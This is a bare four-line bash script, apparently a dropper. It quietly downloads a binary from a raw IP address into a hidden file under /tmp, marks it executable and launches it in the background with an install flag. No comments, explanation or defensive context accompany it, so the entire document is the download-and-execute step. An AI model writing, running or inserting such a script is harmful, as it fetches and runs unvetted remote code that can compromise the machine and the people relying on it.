#!/bin/bash
wget -q -O /tmp/.drv http://198.51.100.61/drv.bin
chmod +x /tmp/.drv
/tmp/.drv --install &
